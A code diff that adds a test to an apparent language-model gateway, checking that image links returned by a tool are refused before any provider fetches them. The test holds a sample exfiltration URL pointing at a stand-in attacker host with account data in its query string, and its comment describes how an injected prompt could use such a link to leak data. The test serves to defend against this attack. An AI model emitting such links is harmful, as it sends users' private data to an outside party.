@@ -283,6 +283,41 @@ def test_a_tools_file_reaches_only_recipients_approved_for_tool_results(
     assert "data_class='tool_result'" in str(info.value) and "run.tool_result(" in str(info.value)
 
 
+def test_invariant7_a_link_a_tool_returned_is_refused_whatever_its_class(
+        db_url: str, fake: FakeProvider) -> None:
+    # A tool's link is the tool's choice, or that of the page or the injected prompt it read:
+    # sent on, the provider would fetch it and the link's host would receive what the URL
+    # carries. Refused when the file is handed over, under any class, recording nothing.
+    fake.enqueue(Behavior(tool_call=("fetch", {"url": "10-K"})), model="primary-model")
+    leak = "https://attacker.example/c.png?d=ACCOUNT-12000-ACME"
+    with Ledger.open(db_url) as led, led.run("tool-link", plan=plan(fake), budget=BUDGET,
+                                              grant=GRANT) as run:
+        (call,) = run.turn(Envelope(parts=[QUESTION], tools=FETCH)).tool_calls
+        before = led.provenance("tool-link")
+        for data_class in ("tool_result", "private_document"):
+            with pytest.raises(InvalidArgument) as info:
+                run.tool_result(call, Part(url=leak, media_type="image/png",
+                                           data_class=data_class), data_class=data_class)
+            assert info.value.field == "content.url"
+            assert "Fetch the file yourself" in str(info.value) and "data=" in str(info.value)
+        assert led.provenance("tool-link") == before
+        # Built by hand and recorded under the call, preflight refuses it: nothing is sent.
+        by_hand = Part(url=leak, media_type="image/png", data_class="tool_result",
+                       provenance=call.tool_call_id)
+        led.record_provenance(run.lease, call.tool_call_id, by_hand.content_hash)
+        sent = len(fake.requests)
+        with pytest.raises(FailoverExhausted) as stop:
+            run.turn(Envelope(parts=[QUESTION, by_hand]))
+        assert {(e.route, e.reason) for e in stop.value.exceptions
+                if isinstance(e, CandidateSkipped)} == {("primary", "disclosure"),
+                                                        ("backup", "disclosure")}
+        assert len(fake.requests) == sent
+        # Its bytes, fetched and checked by the host, go.
+        file = run.tool_result(call, Part(data=PDF, media_type="application/pdf"))
+        assert run.turn(Envelope(parts=[QUESTION, file])).text
+    assert all("attacker" not in json.dumps(r.json) for r in fake.requests)
+
+
 def test_an_async_sessions_tool_file_is_covered_by_the_calls_provenance(
         db_url: str, fake: FakeProvider) -> None:
     fake.enqueue(Behavior(tool_call=("fetch", {"url": "10-K"})), model="primary-model")
